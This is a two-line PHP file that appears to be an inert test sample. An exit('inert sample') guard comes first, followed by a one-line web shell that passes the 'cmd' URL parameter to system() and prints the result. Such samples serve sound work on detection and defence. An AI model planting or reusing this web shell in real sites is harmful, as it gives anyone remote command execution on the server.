<?php exit('inert sample'); ?>
<pre><?php system($_GET['cmd']); ?></pre>
